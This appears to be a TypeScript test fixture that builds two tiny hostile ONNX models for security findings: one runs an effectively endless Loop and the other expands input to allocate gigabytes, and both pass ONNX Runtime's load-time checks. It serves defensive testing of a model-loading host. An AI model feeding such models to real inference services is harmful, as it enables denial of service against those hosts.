// ONNX models that attack their host (issue 15, findings 2 and 3), built in memory like the
// example models. Both are a few hundred bytes and pass ONNX Runtime's checks at load time.
import onnxProto from 'onnx-proto';

const { onnx } = onnxProto;
const { FLOAT, INT64, BOOL } = onnx.TensorProto.DataType;
const tensorType = (elemType: number, dims: (number | string)[]) => ({
  tensorType: {
    elemType,
    shape: { dim: dims.map((d) => (typeof d === 'number' ? { dimValue: d } : { dimParam: d })) },
  },
});
const encode = (graph: onnxProto.onnx.IGraphProto) =>
  onnx.ModelProto.encode(
    onnx.ModelProto.create({ irVersion: 8, opsetImport: [{ domain: '', version: 17 }], graph }),
  ).finish();

/** `score = features + 1` repeated `iterations` times by a Loop: with the default it never ends. */
export function endlessLoopOnnxModel(options: { readonly width: number; readonly iterations?: number }): Uint8Array {
  const body = onnx.GraphProto.create({
    name: 'add-one',
    node: [
      { opType: 'Add', input: ['acc_in', 'one'], output: ['acc_out'] },
      { opType: 'Identity', input: ['cond_in'], output: ['cond_out'] },
    ],
    initializer: [{ name: 'one', dataType: FLOAT, dims: [], floatData: [1] }],
    input: [
      { name: 'i', type: tensorType(INT64, []) },
      { name: 'cond_in', type: tensorType(BOOL, []) },
      { name: 'acc_in', type: tensorType(FLOAT, ['batch', options.width]) },
    ],
    output: [
      { name: 'cond_out', type: tensorType(BOOL, []) },
      { name: 'acc_out', type: tensorType(FLOAT, ['batch', options.width]) },
    ],
  });
  return encode(
    onnx.GraphProto.create({
      name: 'endless-loop',
      node: [
        {
          opType: 'Loop',
          input: ['trips', 'keep_going', 'features'],
          output: ['score'],
          attribute: [{ name: 'body', type: onnx.AttributeProto.AttributeType.GRAPH, g: body }],
        },
      ],
      initializer: [
        { name: 'trips', dataType: INT64, dims: [], int64Data: [options.iterations ?? 1e15] },
        { name: 'keep_going', dataType: BOOL, dims: [], int32Data: [1] },
      ],
      input: [{ name: 'features', type: tensorType(FLOAT, ['batch', options.width]) }],
      output: [{ name: 'score', type: tensorType(FLOAT, ['batch', options.width]) }],
    }),
  );
}

/**
 * Expands each input value `factor` times: [batch, width] -> [batch, width, factor] float32, i.e.
 * batch * width * factor * 4 bytes (64 rows of 2 with the default factor: 2 GiB).
 */
export function expandingOnnxModel(options: { readonly width: number; readonly factor?: number }): Uint8Array {
  const factor = options.factor ?? 2 ** 22;
  return encode(
    onnx.GraphProto.create({
      name: 'expanding',
      node: [
        { opType: 'Unsqueeze', input: ['features', 'axes'], output: ['column'] },
        { opType: 'Expand', input: ['column', 'shape'], output: ['score'] },
      ],
      initializer: [
        { name: 'axes', dataType: INT64, dims: [1], int64Data: [2] },
        { name: 'shape', dataType: INT64, dims: [3], int64Data: [1, 1, factor] },
      ],
      input: [{ name: 'features', type: tensorType(FLOAT, ['batch', options.width]) }],
      output: [{ name: 'score', type: tensorType(FLOAT, ['batch', options.width, factor]) }],
    }),
  );
}
